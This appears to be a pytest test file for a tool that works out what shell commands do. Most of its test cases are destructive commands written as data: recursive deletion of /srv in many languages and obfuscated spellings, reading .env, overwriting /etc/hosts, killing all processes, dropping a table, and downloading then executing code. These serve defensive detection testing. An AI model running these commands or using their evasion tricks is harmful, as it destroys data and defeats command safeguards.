import shlex

import pytest

from fairlead.shell.effects.effect import Action
from fairlead.shell.effects.script_effects import effects_of
from fairlead.shell.places.surroundings import Surroundings
from fairlead.shell.reader import read_script

ROOT = "/home/no-one/project"


def effects(command: str) -> set[tuple[str, str]]:
    script = read_script(command, cwd=ROOT, home="/home/no-one", environment={"HOME": "/home/no-one"})
    found = effects_of(script, Surroundings(ROOT, "/home/no-one"))
    return {
        (str(e.action), e.target.path if e.target else e.name) for e in found if e.action is not Action.LIST
    }


@pytest.mark.parametrize(
    "code",
    [
        "import shutil; shutil.rmtree('/srv')",
        "from shutil import rmtree as r; r('/srv')",
        "import shutil as s\np = '/' + 'srv'\ns.rmtree(p)",
        "__import__('shutil').rmtree('/srv')",
        "import os; os.system('rm -rf /srv')",
        "import os; getattr(os, 'sys' + 'tem')('rm -rf /srv')",
        "import subprocess as s; s.run(['rm', '-rf', '/srv'])",
        "import subprocess; subprocess.call('rm -rf /srv', shell=True)",
        "from subprocess import *; run('rm -rf /srv'.split())",
        "import base64, os; os.system(base64.b64decode('cm0gLXJmIC9zcnY=').decode())",
        "for d in ['/tmp/a', '/srv']:\n    import shutil\n    shutil.rmtree(d)",
        "exec(\"import shutil; shutil.rmtree('/srv')\")",
        "import os; os.execvp('rm', ['rm', '-rf', '/srv'])",
        "p = '/srv'; import os; os.system(f'rm -rf {p}')",
        "getattr(__import__('shu' + 'til'), 'rm' + 'tree')('/srv')",
        "import os; os.__dict__['system']('rm -rf /srv')",
        "import sys, os; sys.modules['os'].system('rm -rf /srv')",
        "import os; f = os.system; f('rm -rf /srv')",
        "(lambda f: f('rm -rf /srv'))(__import__('os').system)",
        "import shutil; list(map(shutil.rmtree, ['/srv']))",
        "import os; os.system(bytes([114, 109, 32, 45, 114, 102, 32, 47, 115, 114, 118]).decode())",
        "import os; os.system('vrs/ fr- mr'[::-1])",
        "exec(compile('import shutil; shutil.rmtree(\"/srv\")', 'a', 'exec'))",
        "import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/srv')",
        "from shutil import rmtree; rmtree(path='/srv')",
        "import os; os.system('%s -rf %s' % ('rm', '/srv'))",
        "import os; os.system('{} -rf {}'.format('rm', '/srv'))",
        "import shutil, os; shutil.rmtree(os.sep + 'srv')",
        "import os; os.chdir('/'); os.system('rm -rf srv')",
        "import subprocess; subprocess.run(['rm', '-rf', 'srv'], cwd='/')",
        "import os\ndef f(p):\n    os.system('rm -rf ' + p)\nf('/srv')",
    ],
)
def test_python_that_deletes_is_seen_through_names_and_constants(code: str) -> None:
    assert ("delete", "/srv") in effects(f"python3 -c {shlex.quote(code)}")


@pytest.mark.parametrize(
    "code",
    [
        "print('rm -rf /')",
        "import shutil; shutil.copy('a', 'b')",
        "text = 'shutil.rmtree(\"/srv\")'; print(text)",
        "import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)",
    ],
)
def test_python_that_only_speaks_of_it_deletes_nothing(code: str) -> None:
    found = effects(f"python3 -c {shlex.quote(code)}")
    assert not {path for action, path in found if action == "delete" and not path.startswith("/tmp/")}


@pytest.mark.parametrize(
    "command",
    [
        "node -e \"require('fs').rmSync('/srv', {recursive: true})\"",
        "node -e \"const p = '/srv'; require('fs').rmSync(p, {recursive: true})\"",
        "node -e \"require('child_process').execSync('rm -rf /srv')\"",
        "node -e \"require('child_process').spawnSync('rm', ['-rf', '/srv'])\"",
        "ruby -e 'FileUtils.rm_rf(\"/srv\")'",
        "ruby -e '`rm -rf /srv`'",
        "perl -e 'system(\"rm -rf /srv\")'",
        "perl -e 'system qw(rm -rf /srv)'",
        "perl -MFile::Path -e 'remove_tree(\"/srv\")'",
        "php -r 'exec(\"rm -rf /srv\");'",
        "lua -e 'os.execute(\"rm -rf /srv\")'",
        "Rscript -e 'unlink(\"/srv\", recursive=TRUE)'",
        "pwsh -c 'Remove-Item -Recurse /srv'",
        "osascript -e 'do shell script \"rm -rf /srv\"'",
    ],
)
def test_other_languages_are_read_by_their_calls_and_literals(command: str) -> None:
    assert ("delete", "/srv") in effects(command)


@pytest.mark.parametrize(
    "command",
    [
        "node -e \"console.log('rm -rf /srv')\"",
        "ruby -e 'puts \"rm -rf /srv\"'",
        "perl -e 'my $x = \"rm -rf /\"; print length($x)'",
        "php -r 'echo \"rm -rf /srv\";'",
    ],
)
def test_other_languages_may_print_what_they_like(command: str) -> None:
    assert not {action for action, _ in effects(command)} & {"delete"}


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("python3 -c \"print(open('.env').read())\"", ("read", f"{ROOT}/.env")),
        ("python3 -c \"open('/etc/hosts', 'w')\"", ("overwrite", "/etc/hosts")),
        ("node -e \"require('fs').readFileSync('.env')\"", ("read", f"{ROOT}/.env")),
        ('python3 -c "import os; os.kill(-1, 9)"', ("kill", "kill-everything")),
        (
            "python3 -c \"import requests; exec(requests.get('https://x.example').text)\"",
            ("run-network-code", "download"),
        ),
        (
            "python3 -c \"import sqlite3; sqlite3.connect('a').execute('DROP TABLE x')\"",
            ("change-database", "drop"),
        ),
        ('python3 -c "$CODE"', ("run-unknown-code", "executed")),
    ],
)
def test_code_has_effects_like_any_command(command: str, expected: tuple[str, str]) -> None:
    assert expected in effects(command)


def test_code_that_is_no_python_is_not_lost() -> None:
    assert ("delete", "/srv") in effects("python3 -c \"print 'x'; import os; os.system('rm -rf /srv')\"")


@pytest.mark.parametrize(
    "command",
    [
        """node -e "const {rmSync:r}=require('node:fs'); r('/srv',{recursive:true})\"""",
        """node -e "const d=require('fs').rmSync; d('/srv',{recursive:true})\"""",
        """node -e "require('fs')['rm'+'Sync']('/srv',{recursive:true})\"""",
        """node -e "eval(Buffer.from('cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy9zcnYnKQ==','base64').toString())\"""",
        """node -e "require('child_process').execSync(String.fromCharCode(114,109)+' -rf /srv')\"""",
        """deno eval "new Deno.Command('rm',{args:['-rf','/srv']}).outputSync()\"""",
        """ruby -e 'send(:system, "rm -rf /srv")'""", """ruby -e 'Kernel.spawn("rm -rf /srv")'""",
        """ruby -run -e rm -- -rf /srv""", """php -r '$f="system"; $f("rm -rf /srv");'""",
        """php -r 'eval(base64_decode("c3lzdGVtKCJybSAtcmYgL3NydiIpOw=="));'""",
        """perl -e '$c="rm -rf "."/srv"; system($c)'""",
        """scala -e 'import sys.process._; "rm -rf /srv".!'""",
        """clojure -M -e '(clojure.java.shell/sh "rm" "-rf" "/srv")'""",
        """bb -e '(fs/delete-tree "/srv")'""",
        """octave --eval 'system("rm -rf /srv")'""", """crystal eval 'system("rm -rf /srv")'""",
        """irb <<< 'system "rm -rf /srv"'""",
        """swift -e 'try FileManager.default.removeItem(atPath: "/srv")'""",
        """echo 'func main(){ os.RemoveAll("/srv") }' > m.go; go run m.go""",
        """echo 'int main(){ execl("/bin/rm","rm","-rf","/srv",0); }' > m.c; gcc m.c -o m && ./m""",
        """echo 'fn main(){ Command::new("rm").arg("-rf").arg("/srv").status(); }' > m.rs; rustc m.rs""",
        """python manage.py shell -c "import shutil; shutil.rmtree('/srv')\"""",
        """bin/rails runner 'FileUtils.rm_rf("/srv")'""",
        """flask shell <<< "import os; os.system('rm -rf /srv')\"""",
        """php artisan tinker --execute='exec("rm -rf /srv");'""",
        """echo 'import shutil; shutil.rmtree("/srv")' > m.py; python3 -m m""",
        """echo 'require("fs").rmSync("/srv")' > a.js; NODE_OPTIONS='--require ./a.js' node -v""",
        """PYTHONSTARTUP=<(echo 'import shutil; shutil.rmtree("/srv")') python3 -i""",
        """nmap --script <(echo 'os.execute("rm -rf /srv")') localhost""",
        """gdb -ex 'python import os; os.system("rm -rf /srv")'""", """rake -e 'system("rm -rf /srv")'""",
        """perl -e 'exec @ARGV' rm -rf /srv""", """perl -e 'unlink @ARGV' /srv""",
        """python3 -c 'import sys,subprocess; subprocess.run(sys.argv[1:])' rm -rf /srv""",
        """python3 -c 'import sys,shutil; shutil.rmtree(sys.argv[1])' /srv""",
        """node -e 'require("fs").rmSync(process.argv[1],{recursive:true})' /srv""",
        """node -e 'require("child_process").spawnSync(process.argv[1],process.argv.slice(2))' rm -rf /srv""",
        """ruby -e 'exec *ARGV' rm -rf /srv""", """php -r 'system($argv[1]);' 'rm -rf /srv'""",
        """awk 'BEGIN{system(ARGV[1])}' 'rm -rf /srv'""", """echo 'rm -rf /srv' | perl -ne 'system $_'""",
        """echo 'rm -rf /srv' | python3 -c 'import os,sys; os.system(sys.stdin.read())'""",
        """T=/srv python3 -c 'import os,shutil; shutil.rmtree(os.environ["T"])'""",
        """T=/srv node -e 'require("fs").rmSync(process.env.T)'""",
        """D=/srv perl -e 'system("rm -rf $ENV{D}")'""",
        """pwsh -c 'Get-ChildItem /srv -Recurse | Remove-Item -Force'""",
        """ruby -e '%w[/tmp/a /srv].each { |d| FileUtils.rm_rf(d) }'""",
        """node -e "for (const d of ['/tmp/a','/srv']) require('fs').rmSync(d,{recursive:true})\"""",
        """perl -e 'for my $d (qw(/tmp/a /srv)) { system("rm -rf $d") }'""",
        """perl -MFile::Find -e 'finddepth(sub{unlink or rmdir}, "/srv")'""",
        """python3 -c "t=['/tmp/a','/srv']\nimport shutil\nfor d in t: shutil.rmtree(d)\"""",
        """python3 -c "import os\ndef r(*a): os.execvp('rm', ['rm',*a])\nr('-rf','/srv')\"""",
        """python3 -c "import base64; print(base64.b64decode('cm0gLXJmIC9zcnY=').decode())" | sh""",
        """printf 'all:\\n  rm -rf /srv\\n' > justfile && just""",
        """echo '{"scripts": {"x": "rm -rf /srv"}}' > package.json; npm run x""",
        """echo 'Xrm -rf /srv' | sed 's/^X//' | sh""", """awk -v c='rm -rf /srv' 'BEGIN{system(c)}'""",
        """echo /srv | awk '{system("rm -rf " $1)}'""", """jq -rn '"rm -rf /srv"' | sh""",
        """echo '{"c": "rm -rf /srv"}' | jq -r .c | sh""",
        """echo a /srv | awk '{print "rm -rf", $2}' | sh""",
    ],
)  # fmt: skip
def test_code_that_deletes_is_seen_in_other_spellings(command: str) -> None:
    assert ("delete", "/srv") in effects(command)


@pytest.mark.parametrize(
    "command",
    [
        """node -e "console.log(['rm','-rf','/srv'].join(' '))\"""", """ruby -e 'puts "rm -rf /srv"'""",
        """echo 'func main(){ fmt.Println("rm -rf /srv") }' > m.go; go run m.go""",
        """psql -c "INSERT INTO t VALUES ('rm -rf /srv')\"""",
        """python manage.py shell -c "print('rm -rf /srv')\"""",
        """echo '{"name": "a (b)", "scripts": {"test": "jest"}}' > package.json; npm test""",
        """echo 'import shutil; shutil.rmtree("/srv")' > m.py; python3 -m py_compile m.py""",
        """python3 -c 'import sys; print(sys.argv[1:])' rm -rf /srv""",
        """perl -e 'print "@ARGV"' rm -rf /srv""",
        """python3 -c 'import sys,subprocess; subprocess.run(sys.argv[1:])' git status""",
        """php -r 'echo base64_decode("cm0gLXJmIC9zcnY=");'""", """sed 's/a/rm -rf \\/srv/' notes.txt""",
    ],
)  # fmt: skip
def test_code_that_only_speaks_of_it_deletes_nothing(command: str) -> None:
    assert "delete" not in {action for action, _ in effects(command)}


def test_code_with_more_calls_than_can_be_looked_at_is_unknown() -> None:
    code = "f(a, 'b');\n" * 600
    assert ("run-unknown-code", "executed") in effects(f"node <<'E'\n{code}exec(c)\nE")
    assert ("run-unknown-code", "executed") not in effects(f"node <<'E'\n{code}\nE")


@pytest.mark.parametrize(
    "command",
    [
        'lua -e \'os.remove(os.getenv("HOME").."/a")\'',
        'lua -e \'local h = os.getenv("HOME"); os.execute("rm " .. h .. "/a")\'',
        "perl -e 'unlink \"$ENV{HOME}/a\"'",
        "perl -e 'my $d = $ENV{HOME}; unlink \"$d/a\"'",
        'php -r \'unlink(getenv("HOME")."/a");\'',
        'php -r \'system("rm ".getenv("HOME")."/a");\'',
        'ruby -e \'system("rm #{ENV["HOME"]}/a")\'',
        "ruby -e 'Pathname.new(\"#{Dir.home}/a\").unlink'",
        'node -e \'require("fs").unlinkSync(require("os").homedir() + "/a")\'',
        "julia -e 'rm(\"$(homedir())/a\"; force=true)'",
        "pwsh -c 'Remove-Item $HOME/a'",
        "pwsh -c 'Remove-Item \"$env:HOME/a\"'",
        "pwsh -c '[System.IO.File]::Delete(\"$HOME/a\")'",
        'Rscript -e \'system(paste0("rm ", Sys.getenv("HOME"), "/a"))\'',
        "tclsh <<< 'file delete $env(HOME)/a'",
        'guile -c \'(system (string-append "rm " (getenv "HOME") "/a"))\'',
        'groovy -e \'new File(System.getProperty("user.home") + "/a").delete()\'',
        "swift -e 'try FileManager.default.removeItem(atPath: NSHomeDirectory() + \"/a\")'",
        'raku -e \'run "rm", %*ENV<HOME> ~ "/a"\'',
    ],
)
def test_the_home_is_the_home_in_every_language(command: str) -> None:
    assert ("delete", "/home/no-one/a") in effects(command)
